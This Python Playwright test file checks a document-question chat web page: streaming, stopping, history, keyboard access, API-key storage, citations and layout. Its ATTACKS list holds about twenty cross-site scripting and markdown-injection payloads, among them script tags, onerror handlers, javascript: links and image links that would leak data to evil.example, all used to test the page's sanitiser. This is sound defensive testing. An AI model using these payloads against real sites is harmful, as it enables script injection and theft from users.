"""The chat page in headless Chromium, against a running server (`base_url`, a session fixture).

Tests named `..._when_served` talk to the engine behind it and take any answer; the others script what the wire says, so that a cut stream or
a refused key can be had at will. `FIRSTWORD_SCREENSHOT=path.png` keeps a picture of an answered turn.

Divergences: the browser lives as long as this module and no longer. Playwright's synchronous API keeps an event loop on the main thread
while it runs, and asynchronous tests elsewhere could not start theirs.
"""

from __future__ import annotations

import json
import os
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, Locator, Page, Route, expect

from chat_page import (
    CHAT,
    FIRST_WORD_MS,
    WHOLE,
    ask,
    blank_page,
    body_of,
    chromium,
    delta,
    ended,
    envelope,
    frames,
    open_page,
    script,
    sent,
)

# The first test may wait for the session's engine to start.
pytestmark = [pytest.mark.browser, pytest.mark.engine, pytest.mark.timeout(600)]

MAX_TOKENS = 96  # bounds a small model that does not find an end
PHASES = ["admit", "recall", "embed", "search", "rerank", "assemble", "engine queue", "prefill", "first byte"]


@pytest.fixture(scope="module")
def browser(base_url: str) -> Iterator[Browser]:
    with chromium() as browser:
        yield browser


@pytest.fixture
def page(browser: Browser, base_url: str) -> Iterator[Page]:
    """An open page of a ready server."""
    with blank_page(browser, base_url) as page:
        open_page(page)
        yield page


def bounded(page: Page) -> None:
    """The page leaves the length to the server; here it has a limit."""

    def add_limit(route: Route) -> None:
        route.continue_(post_data=json.dumps({**body_of(route.request), "max_tokens": MAX_TOKENS}))

    if "FIRSTWORD_SCREENSHOT" not in os.environ:
        page.route(CHAT, add_limit)


def keep_screenshot(page: Page) -> None:
    if path := os.environ.get("FIRSTWORD_SCREENSHOT"):
        Path(path).parent.mkdir(parents=True, exist_ok=True)
        page.screenshot(path=path)


# Against the engine

WATCH = """() => {
  window.seen = [];
  new MutationObserver(() => {
    const turn = document.querySelector(".turn:last-child");
    if (turn?.dataset.state !== "streaming") return;
    window.seen.push({length: turn.querySelector(".answer").textContent.length, chips: turn.querySelectorAll(".chip").length});
  }).observe(document.getElementById("log"), {subtree: true, childList: true, characterData: true, attributes: true});
}"""


def test_answer_grows_with_sources_first_and_figures_last_when_served(page: Page) -> None:
    bounded(page)
    page.evaluate(WATCH)
    turn = ask(page, "How do I start the server?")
    expect(page.get_by_role("status")).to_have_text("Answering…")
    ended(turn)

    with_text = [look for look in page.evaluate("window.seen") if look["length"] > 0]
    assert len({look["length"] for look in with_text}) >= 2, "the text never grew while it streamed"
    assert all(look["chips"] > 0 for look in with_text), "text stood there before its sources"

    timing = turn.get_by_role("complementary", name="Latency of answer 1")
    expect(timing.locator(".ttft")).to_have_text(re.compile(r"first word after [\d.,]+ m?s"))
    table = timing.get_by_role("table", name=re.compile("Phases of the .* to the first word"))
    assert table.get_by_role("rowheader").all_inner_texts()[: len(PHASES)] == PHASES
    assert "not accounted for" not in table.inner_text()
    expect(timing).to_contain_text(re.compile(r"[\d,]+ of [\d,]+ prompt tokens from cache"))
    expect(timing).to_contain_text("by this browser’s clock")
    keep_screenshot(page)

    chip = turn.get_by_role("list", name="Sources").get_by_role("button").first
    chip.click()
    dialog = page.get_by_role("dialog")
    expect(dialog).to_be_visible()
    expect(dialog.get_by_role("region", name="Text of the passage")).not_to_contain_text("Fetching")
    assert "could not be fetched" not in dialog.inner_text()
    assert len(dialog.get_by_role("region").inner_text()) > 20
    page.keyboard.press("Escape")
    expect(dialog).to_be_hidden()
    expect(chip).to_be_focused()


@pytest.mark.parametrize("how", ["button", "escape"])
def test_partial_answer_stays_when_stopped_and_served(page: Page, how: str) -> None:
    for _ in range(3):  # a very short answer may be over before the click
        turn = ask(page, "Explain in detail, as a long list, every step of a turn and every setting.")
        expect(turn).not_to_have_attribute("data-state", "waiting", timeout=FIRST_WORD_MS)
        expect(turn.locator(".answer")).not_to_be_empty()
        if turn.get_attribute("data-state") != "streaming":
            continue
        if how == "button":
            page.get_by_role("button", name="Stop").click()
        else:
            page.keyboard.press("Escape")
        expect(turn).to_have_attribute("data-state", re.compile("stopped|complete"))
        if turn.get_attribute("data-state") == "stopped":
            break
    ended(turn, "stopped")
    expect(turn.locator(".note")).to_contain_text("Stopped")
    text = turn.locator(".answer").inner_text()
    assert text.strip()
    page.wait_for_timeout(300)
    assert turn.locator(".answer").inner_text() == text, "text came in after the stop"
    expect(page.get_by_role("button", name="Stop")).to_be_hidden()
    expect(page.get_by_label("Your question")).to_be_focused()
    page.keyboard.type("Again")
    expect(page.get_by_role("button", name="Send")).to_be_enabled()


def test_history_goes_out_whole_when_served(page: Page) -> None:
    bounded(page)
    page.evaluate("navigator.clipboard.writeText = async (text) => { window.copied = text; }")
    first = ended(ask(page, "What is time to first token?"))
    first.get_by_role("button", name="Copy answer").click()
    expect(first.get_by_role("button", name="Copied")).to_be_visible()
    with page.expect_request(CHAT) as second:
        turn = ask(page, "And how is it measured?")
    assert sent(second.value) == [
        {"role": "user", "content": "What is time to first token?"},
        {"role": "assistant", "content": page.evaluate("window.copied")},
        {"role": "user", "content": "And how is it measured?"},
    ]
    assert body_of(second.value)["stream_options"] == {"include_usage": True}
    ended(turn)
    page.get_by_role("button", name="New chat").click()
    expect(page.locator(".turn")).to_have_count(0)
    expect(page.get_by_role("heading", name="Ask your documents")).to_be_visible()
    with page.expect_request(CHAT) as fresh:
        turn = ask(page, "Hello")
    assert sent(fresh.value) == [{"role": "user", "content": "Hello"}]
    ended(turn)


def test_keyboard_alone_is_enough_when_served(page: Page) -> None:
    bounded(page)
    field = page.get_by_label("Your question")
    page.reload()
    expect(field).to_be_focused()
    page.keyboard.type("How do I add")
    page.keyboard.press("Shift+Enter")
    page.keyboard.type("my own documents?")
    expect(field).to_have_value("How do I add\nmy own documents?")
    expect(page.get_by_role("button", name="Send")).to_be_enabled(timeout=FIRST_WORD_MS)
    page.keyboard.press("Enter")
    turn = ended(page.locator(".turn").last)
    expect(field).to_be_focused()
    chip = turn.locator(".chip").first
    for _ in range(60):  # back from the field, past what the answer holds
        if chip.evaluate("chip => chip === document.activeElement"):
            break
        page.keyboard.press("Shift+Tab")
    expect(chip).to_be_focused()
    assert chip.evaluate("chip => getComputedStyle(chip).outlineStyle") != "none"
    page.keyboard.press("Enter")
    expect(page.get_by_role("dialog")).to_be_visible()
    page.keyboard.press("Tab")
    expect(page.get_by_role("dialog").get_by_role("button", name="Close")).to_be_focused()
    page.keyboard.press("Enter")
    expect(page.get_by_role("dialog")).to_be_hidden()
    expect(chip).to_be_focused()


def test_security_policy_is_strict_when_served(page: Page) -> None:
    response = page.request.get("/")
    policy = response.headers["content-security-policy"]
    assert "default-src 'none'" in policy
    assert "script-src 'self'" in policy
    assert "unsafe" not in policy
    outside = page.evaluate(
        "performance.getEntriesByType('resource').map(r => r.name).filter(n => !n.startsWith(location.origin))"
    )
    assert outside == []


# Scripted


@pytest.mark.parametrize(
    ("body", "state", "says"),
    [
        (frames(delta("Half a sen")), "cut", "Cut short"),
        (frames(delta("Half a sen")) + 'data: {"choices": [', "cut", "Cut short"),
        (frames(delta("Half a sen"), "[DONE]"), "cut", "Cut short"),
        (
            frames(delta("Half a sen"), json.loads(envelope("The engine stopped.")), "[DONE]"),
            "failed",
            "The engine stopped.",
        ),
        (frames(delta("Half a sen"), "{not json"), "failed", "cannot be read"),
    ],
)
def test_broken_stream_is_never_shown_as_complete(page: Page, body: str, state: str, says: str) -> None:
    script(page, body)
    turn = ended(ask(page, "Anything"), state)
    expect(turn.locator(".note")).to_contain_text(says)
    expect(turn.locator(".answer")).to_have_text("Half a sen")
    page.unroute(CHAT)
    requests = script(page)
    turn.get_by_role("button", name="Retry").click()
    expect(ended(turn).locator(".answer")).to_have_text("All is well.")
    assert sent(requests[0]) == [{"role": "user", "content": "Anything"}]
    expect(turn.get_by_role("button", name="Retry")).to_have_count(0)


def test_refusal_shows_the_servers_message_and_can_be_retried(page: Page) -> None:
    script(page, envelope("The queue is full: <b>64</b> turns are waiting."), 429, **{"retry-after": "3"})
    turn = ended(ask(page, "Anything"), "failed")
    expect(turn.locator(".note")).to_contain_text(
        "The queue is full: <b>64</b> turns are waiting. Try again in 3 s."
    )
    page.unroute(CHAT)
    requests = script(page)
    # A question that got no answer is not part of the history.
    ended(ask(page, "Something else"))
    assert sent(requests[0]) == [{"role": "user", "content": "Something else"}]
    expect(turn.get_by_role("button", name="Retry")).to_have_count(0)
    ended(ask(page, "And now?"))
    assert [message["content"] for message in sent(requests[1])] == [
        "Something else",
        "All is well.",
        "And now?",
    ]


def test_starting_server_shows_its_phase_and_opens_sending_when_ready(page: Page) -> None:
    starting = json.dumps({"status": "starting", "phase": "loading engine, 34 s"})
    page.route(
        "**/health/ready",
        lambda route: route.fulfill(status=503, body=starting, content_type="application/json"),
    )
    requests = script(page)
    page.reload()
    expect(page.locator("#readiness")).to_contain_text("loading engine, 34 s")
    expect(page.locator("#hint")).to_contain_text("loading engine, 34 s")
    page.get_by_label("Your question").fill("Early")
    page.keyboard.press("Enter")
    expect(page.get_by_role("button", name="Send")).to_be_disabled()
    expect(page.get_by_label("Your question")).to_have_value("Early")
    assert requests == []
    page.unroute("**/health/ready")
    expect(page.get_by_role("button", name="Send")).to_be_enabled(timeout=5000)
    page.keyboard.press("Enter")
    ended(page.locator(".turn").last)


def test_key_is_asked_for_and_kept_in_the_session_only(page: Page) -> None:
    seen: list[str | None] = []

    def guard(route: Route) -> None:
        key = route.request.headers.get("authorization")
        seen.append(key)
        if key == "Bearer sk-right":
            route.fulfill(status=200, body=WHOLE, content_type="text/event-stream")
        else:
            route.fulfill(status=401, body=envelope("No such key."), content_type="application/json")

    page.route(CHAT, guard)
    turn = ask(page, "Anything")
    dialog = page.get_by_role("dialog", name="This server asks for an API key")
    dialog.get_by_label("API key").fill("sk-wrong")
    page.keyboard.press("Enter")
    expect(dialog).to_contain_text("No such key.")
    dialog.get_by_label("API key").fill("sk-right")
    page.keyboard.press("Enter")
    ended(turn)
    assert seen == [None, "Bearer sk-wrong", "Bearer sk-right"]
    assert "sk-right" in page.evaluate("JSON.stringify(sessionStorage)")
    assert "sk-right" not in page.evaluate(
        "JSON.stringify(localStorage) + document.cookie + document.documentElement.outerHTML"
    )


ATTACKS = [
    "<script>window.pwned = 1</script>",
    "<img src=x onerror='window.pwned = 1'>",
    "![leak](https://evil.example/x.png?secret)",
    "![leak][ref]\n\n[ref]: https://evil.example/x.png",
    "[a](javascript:window.pwned=1)",
    "[a](JaVaScRiPt&colon;window.pwned=1)",
    "[a](data:text/html,<script>window.pwned=1</script>)",
    "[a](vbscript:x) [b](/v1/models) [c](//evil.example) [d](blob:x)",
    "<javascript:window.pwned=1>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    "<svg><animate onbegin='window.pwned=1' attributeName=x dur=1s></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.pwned=1>",
    "<form action='https://evil.example'><input name=q><button>Send</button></form>",
    "<style>body { display: none }</style><p style='position:fixed;inset:0'>over all</p>",
    "<details open ontoggle='window.pwned=1'>x</details><video><source onerror='window.pwned=1'></video>",
    "<a href='https://ok.example' onclick='window.pwned=1' id='log' name='status'>x</a>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<pre><code></code><img src=x onerror=window.pwned=1>\n\n`<b onclick=x>`",
    '```"><script>window.pwned=1</script>\ncode\n```',
    '[x](https://a.example "\\" onmouseover=\\"window.pwned=1")',
]

INSPECT = """async ([layer, attacks]) => {
  const {render, sanitise, GrowingMarkdown} = await import("/assets/markdown.js");
  const allowed = new Set("P BR HR H3 H4 H5 H6 STRONG EM DEL CODE PRE BLOCKQUOTE UL OL LI TABLE THEAD TBODY TR TH TD A DIV".split(" "));
  const attributes = new Set(["href", "title", "start", "align", "rel", "target", "tabindex", "role", "aria-label", "class"]);
  const bad = [];
  const look = (root, source) => {
    for (const node of root.querySelectorAll("*")) {
      if (!allowed.has(node.nodeName.toUpperCase())) bad.push([source, node.nodeName]);
      for (const {name} of node.attributes) if (!attributes.has(name)) bad.push([source, `${node.nodeName}@${name}`]);
      const href = node.getAttribute("href");
      if (href !== null && !/^(https?:[/][/]|mailto:)/i.test(href)) bad.push([source, href]);
      if (href !== null && (node.rel !== "noopener noreferrer nofollow" || node.target !== "_blank")) bad.push([source, "rel"]);
    }
  };
  for (const attack of attacks) {
    const made = document.createElement("div");
    made.append(layer === "render" ? render(attack) : sanitise(attack));
    document.body.append(made); // alive, where a handler would run
    look(made, attack);
    if (layer !== "render") continue;
    const box = document.createElement("div");
    document.body.append(box);
    const growing = new GrowingMarkdown(box);
    for (const character of attack) {
      growing.append(character);
      if (Math.random() < 0.2) { await new Promise(requestAnimationFrame); look(box, `growing: ${attack}`); }
    }
    growing.finish();
    look(box, `grown: ${attack}`);
  }
  await new Promise((resolve) => setTimeout(resolve, 300));
  return {bad, pwned: window.pwned ?? null};
}"""


@pytest.mark.parametrize("layer", ["render", "sanitise"])
def test_malicious_markdown_is_neutralised(browser: Browser, base_url: str, layer: str) -> None:
    # Without the security policy, so that each layer is seen to hold by itself.
    context = browser.new_context(base_url=base_url, bypass_csp=True)
    page = context.new_page()
    open_page(page)
    asked_for: list[str] = []
    page.on("request", lambda request: asked_for.append(request.url))
    assert page.evaluate(INSPECT, [layer, ATTACKS]) == {"bad": [], "pwned": None}
    assert [url for url in asked_for if "evil.example" in url or url.endswith("/x")] == []
    context.close()


def test_malicious_answer_is_neutralised_in_the_page(page: Page) -> None:
    script(
        page, frames(*(delta(f"{attack}\n\n") for attack in ATTACKS), delta(finish_reason="stop"), "[DONE]")
    )
    turn = ended(ask(page, "<img src=x onerror='window.pwned = 1'>"))
    page.wait_for_timeout(200)
    assert page.evaluate("window.pwned ?? null") is None
    assert turn.locator("img, iframe, form, style, script, svg, input").count() == 0
    expect(turn.get_by_role("heading").first).to_contain_text("<img src=x onerror='window.pwned = 1'>")


def test_markdown_keeps_what_answers_need(page: Page) -> None:
    text = "# Title\n\nA **bold** [link](https://ok.example/a) and `<code>`, a<br>b, 1 < 2.\n\n1. one\n2. two\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n```sh\nls\n```\n"
    html = page.evaluate(
        "async (text) => { const {render} = await import('/assets/markdown.js'); const d = document.createElement('div'); d.append(render(text)); return d.innerHTML; }",
        text,
    )
    assert "<h3>Title</h3>" in html
    assert "<strong>bold</strong>" in html
    assert 'href="https://ok.example/a"' in html
    assert "<code>&lt;code&gt;</code>" in html
    assert "a<br>b, 1 &lt; 2." in html
    assert "<li>two</li>" in html
    assert "<td>2</td>" in html
    assert "ls\n</code></pre>" in html


GROW = """async (text) => {
  const {render, GrowingMarkdown} = await import("/assets/markdown.js");
  const whole = document.createElement("div");
  whole.append(render(text));
  const box = document.createElement("div");
  const frame = window.requestAnimationFrame;
  window.requestAnimationFrame = (draw) => { draw(); return 0; }; // a frame for each character
  const growing = new GrowingMarkdown(box);
  for (const character of text) growing.append(character);
  window.requestAnimationFrame = frame;
  const grown = [...box.children].map((block) => block.innerHTML).join("");
  growing.finish();
  const plain = (html) => html.replace(/\\s+/g, "");
  return {same: plain(grown) === plain(whole.innerHTML), grown, finished: box.innerHTML === whole.innerHTML};
}"""


def test_growing_markdown_ends_as_if_rendered_whole(page: Page) -> None:
    text = (
        "Setext\r\n===\r\n\r\n- a\n- b\n\n  more of b\n- c\n\n\n1. x\n   - y\n\n> quote\ngoes on\n\n```py\nif a < b:\n\n    # no heading\n```\n\n"
        "| a | b |\n| - | - |\n| 1 | **2** |\n\nA paragraph\nin two lines with *emphasis* and `code`.\n\n    indented\n\n    code\n\n***\n\nLast &amp; end 👩‍🚀."
    )
    result = page.evaluate(GROW, text * 3)
    assert result["finished"]
    assert result["same"], result["grown"]


DECODE = """async ([wire, expected]) => {
  const {SseDecoder} = await import("/assets/stream.js");
  const bytes = Uint8Array.from(wire);
  const wrong = [];
  const decode = (...cuts) => {
    const decoder = new SseDecoder();
    const got = [];
    let start = 0;
    for (const cut of [...cuts, bytes.length]) { got.push(...decoder.push(bytes.slice(start, cut))); start = cut; }
    got.push(...decoder.end());
    if (JSON.stringify(got) !== JSON.stringify(expected)) wrong.push([cuts, got]);
  };
  decode();
  for (let first = 0; first <= bytes.length; first++) decode(first);
  for (let first = 0; first <= bytes.length; first += 3) for (let second = first; second <= bytes.length; second += 2) decode(first, second);
  decode(...bytes.keys());
  return wrong.slice(0, 3);
}"""


@pytest.mark.parametrize("end_of_line", ["\n", "\r\n", "\r"])
def test_event_stream_decodes_however_it_is_cut(page: Page, end_of_line: str) -> None:
    lines = [
        "\ufeff: keep-alive",
        "",
        'data: {"t": "héllo 👩‍🚀"}',
        "",
        ": keep-alive",
        "",
        "",
        "data:first",
        ": between",
        "data:  second",
        "data",
        "event: ignored",
        "id: 7",
        "",
        "data: [DONE]",
        "",
        "data: never finished",
    ]
    wire = end_of_line.join(lines).encode()
    assert page.evaluate(DECODE, [list(wire), ['{"t": "héllo 👩‍🚀"}', "first\n second\n", "[DONE]"]]) == []


def test_phases_are_consecutive_and_a_gap_is_named(page: Page) -> None:
    timing = {
        "admit": 1,
        "embed": 2,
        "search": 3,
        "engine_queue": 4,
        "prefill": 30,
        "ttft": 50,
        "prompt_tokens": 9,
        "cached_tokens": 3,
    }
    phases = page.evaluate(
        "async (timing) => (await import('/assets/waterfall.js')).phasesOf(timing)", timing
    )
    assert [(phase["name"], phase["startMs"], phase["ms"]) for phase in phases] == [
        ("admit", 0, 1),
        ("embed", 1, 2),
        ("search", 3, 3),
        ("engine queue", 6, 4),
        ("prefill", 10, 30),
        ("not accounted for", 40, 10),
    ]


def test_reply_goes_back_to_the_character(page: Page) -> None:
    """The server knows a conversation by what it said: a reply that is tidied up is another one."""
    pieces = [
        "  \n\t Yes,",
        " \r\n",
        "**so**\u00a0it\u200b is: ",
        "cafe\u0301 ",
        "\u2028[1]\n\n",
        "<b>&amp; \ufeff👩‍🚀</b>",
        "  \n\n ",
    ]
    requests = script(page, frames(*map(delta, pieces), delta(finish_reason="stop"), "[DONE]"))
    ended(ask(page, "One"))
    ended(ask(page, "Two"))
    ended(ask(page, "Three"))
    reply = {"role": "assistant", "content": "".join(pieces)}
    assert sent(requests[2]) == [
        {"role": "user", "content": "One"},
        reply,
        {"role": "user", "content": "Two"},
        reply,
        {"role": "user", "content": "Three"},
    ]


def cited(index: int, filename: str) -> dict[str, Any]:
    return {
        "index": index,
        "file_id": filename,
        "filename": filename,
        "chunk_id": filename,
        "score": 0.5,
        "quote": "q",
    }


def answer_with(page: Page, text: str, *citations: dict[str, Any], state: str = "complete") -> Locator:
    role = delta(firstword={"turn_id": "t", "turn": 1, "citations": list(citations)})
    end = [delta(finish_reason="stop"), "[DONE]"] if state == "complete" else []
    page.unroute(CHAT)
    script(page, frames(role, delta(text), *end))
    return ended(ask(page, "Anything"), state)


def test_markers_mean_this_turns_sources_then_those_of_earlier_turns(page: Page) -> None:
    first = answer_with(page, "A [2], b [1], c [9].", cited(1, "one.md"), cited(2, "two.md"))
    assert [marker.get_attribute("title") for marker in first.locator(".marker").all()] == [
        "two.md",
        "one.md",
    ]
    expect(first.locator(".answer")).to_contain_text("c [9].")

    # Numbered through the conversation, in the prompt's order.
    second = answer_with(
        page, "A [3][1], b [2]; `[1]`\n\n[3]: the third\n", cited(3, "three.md"), cited(1, "one.md")
    )
    assert second.locator(".chip-number").all_inner_texts() == ["3", "1"]
    titles = [marker.get_attribute("title") for marker in second.locator(".marker").all()]
    assert titles == ["three.md", "one.md", "two.md", "three.md"]
    expect(second.locator("code")).to_have_text("[1]")
    expect(second.locator(".answer")).to_contain_text(": the third")

    page.route("**/v1/passages/two.md", lambda route: route.fulfill(status=404, body="{}"))
    second.get_by_role("button", name="Source 2").click()
    expect(page.get_by_role("dialog")).to_contain_text("Source 2: two.md")
    page.keyboard.press("Escape")

    page.get_by_role("button", name="New chat").click()
    fresh = answer_with(page, "A [1] and [2].", cited(2, "other.md"))
    assert [marker.get_attribute("title") for marker in fresh.locator(".marker").all()] == ["other.md"]


def test_sources_of_a_turn_that_the_server_does_not_hear_again_are_no_earlier_ones(page: Page) -> None:
    answer_with(page, "", cited(1, "lost.md"), cited(2, "lost.md"), state="cut")  # no word of it goes back
    turn = answer_with(page, "A [1] and [2].", cited(1, "one.md"))
    assert [marker.get_attribute("title") for marker in turn.locator(".marker").all()] == ["one.md"]


def test_line_about_a_source_defines_no_link_unless_it_has_an_address(page: Page) -> None:
    turn = answer_with(
        page,
        "See [1] and [2].\n\n[1]: one.md\n\n[2]: https://ok.example/two\n",
        cited(1, "one.md"),
        cited(2, "two.md"),
    )
    assert [marker.get_attribute("title") for marker in turn.locator(".marker").all()] == ["one.md", "one.md"]
    expect(turn.get_by_role("link", name="2")).to_have_attribute("href", "https://ok.example/two")


@pytest.mark.parametrize(
    ("figures", "says", "share"),
    [
        ({}, "", None),
        ({"prompt_tokens": 9, "cached_tokens": None}, "", None),
        ({"prompt_tokens": 1_310, "cached_tokens": 1_240}, "1,240 of 1,310 prompt tokens from cache", 94),
        (
            {
                "prompt_tokens": 1_310,
                "cached_tokens": 0,
                "plain_prompt_tokens": None,
                "plain_computed_tokens": None,
            },
            "0 of 1,310 prompt tokens from cache",
            0,
        ),
        (
            {"prompt_tokens": 170, "cached_tokens": 32, "plain_computed_tokens": 138},
            "32 of 170 prompt tokens from cache\n138 computed, as in the usual layout",
            18,
        ),
        (
            {
                "prompt_tokens": 1_310,
                "cached_tokens": 1_240,
                "plain_prompt_tokens": 1_200,
                "plain_computed_tokens": 1_180,
            },
            "1,240 of 1,310 prompt tokens from cache\n70 computed; the usual layout would have computed 1,180",
            94,
        ),
    ],
)
def test_cache_line_tells_what_was_computed_and_what_the_usual_layout_would_have(
    page: Page, figures: dict[str, int | None], says: str, share: int | None
) -> None:
    timing = {"prefill": 8.0, "ttft": 8.0} | figures
    script(page, frames(delta("Yes."), delta(finish_reason="stop", firstword={"timing": timing}), "[DONE]"))
    cache = ended(ask(page, "Anything")).locator(".cache")
    if not says:
        expect(cache).to_have_count(0)
        return
    assert [line.inner_text() for line in cache.locator("p").all()] == says.split("\n")
    bar = cache.get_by_role("img", name=f"{share}% of the prompt from cache")
    fill, whole = (node.bounding_box() for node in (bar.locator(".cache-fill"), bar))
    assert fill is not None
    assert whole is not None
    assert int(100 * fill["width"] / whole["width"] + 0.5) in (share, share + 1 if share else 0)


def test_controls_have_names_and_ids_are_unique(page: Page) -> None:
    citation = {
        "index": 1,
        "file_id": "f",
        "filename": "docs/a.md",
        "chunk_id": "c",
        "score": 0.5,
        "quote": "q",
    }
    passage = {
        "chunk_id": "c",
        "document_id": "f",
        "filename": "docs/a.md",
        "title": "A",
        "heading_path": ["A", "B"],
        "text": "Some *text*.",
    }
    page.route("**/v1/passages/c", lambda route: route.fulfill(json=passage))
    script(
        page,
        frames(
            delta(firstword={"turn_id": "t", "turn": 1, "citations": [citation]}),
            delta("As [1] says."),
            delta(finish_reason="stop"),
            "[DONE]",
        ),
    )
    for question in ("One", "Two"):
        ended(ask(page, question))
    session = page.context.new_cdp_session(page)

    def nameless() -> list[str]:
        nodes = session.send("Accessibility.getFullAXTree")["nodes"]
        controls = {
            "button",
            "textbox",
            "link",
            "dialog",
            "log",
            "table",
            "region",
            "complementary",
            "article",
            "main",
        }
        named = [node for node in nodes if not node["ignored"] and node["role"]["value"] in controls]
        assert named
        return [node["role"]["value"] for node in named if not node.get("name", {}).get("value", "").strip()]

    assert nameless() == []
    page.get_by_role("button", name="Source 1").last.click()
    dialog = page.get_by_role("dialog", name="B")
    expect(dialog).to_contain_text("Some text.")
    assert nameless() == []
    assert (
        page.evaluate(
            "(() => { const ids = [...document.querySelectorAll('[id]')].map(n => n.id); return ids.filter((id, at) => ids.indexOf(id) !== at); })()"
        )
        == []
    )
    assert page.evaluate("document.documentElement.lang") == "en"
    dialog.get_by_role("button", name="Close").click()
    expect(page.get_by_role("log", name="Conversation")).to_have_attribute("aria-live", "off")


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_theme_follows_the_system_until_it_is_chosen(browser: Browser, base_url: str, scheme: Any) -> None:
    context = browser.new_context(base_url=base_url, color_scheme=scheme)
    page = context.new_page()
    open_page(page)
    ground = "getComputedStyle(document.body).backgroundColor"
    before = page.evaluate(ground)
    toggle = page.get_by_role("button", name="Dark theme")
    expect(toggle).to_have_attribute("aria-pressed", str(scheme == "dark").lower())
    toggle.click()
    expect(toggle).to_have_attribute("aria-pressed", str(scheme == "light").lower())
    after = page.evaluate(ground)
    assert after != before
    page.reload()
    assert page.evaluate(ground) == after
    context.close()


def test_nothing_overflows_at_360_px_nor_moves_when_motion_is_unwanted(
    browser: Browser, base_url: str
) -> None:
    context = browser.new_context(
        base_url=base_url,
        viewport={"width": 360, "height": 640},
        reduced_motion="reduce",
        has_touch=True,
        is_mobile=True,
    )
    page = context.new_page()
    open_page(page)
    timing = {name.replace(" ", "_"): 1.5 for name in PHASES} | {
        "ttft": 13.5,
        "prompt_tokens": 12_310,
        "cached_tokens": 12_240,
        "plain_prompt_tokens": 12_200,
        "plain_computed_tokens": 11_800,
    }
    wide = (
        "| a | b | c | d |\n| - | - | - | - |\n"
        + f"| {'word ' * 6} | {'w' * 60} | `{'c' * 50}` | d |\n\n{'x' * 300}\n\n```\n{'y' * 300}\n```\n"
    )
    script(page, frames(delta(wide), delta(finish_reason="stop", firstword={"timing": timing}), "[DONE]"))
    ended(ask(page, "q" * 200))
    widths = page.evaluate(
        "[document.documentElement.scrollWidth, document.getElementById('scroll').scrollWidth]"
    )
    assert max(widths) <= 360
    assert (
        page.evaluate("getComputedStyle(document.querySelector('.caret.blinking')).animationName") == "none"
    )
    context.close()
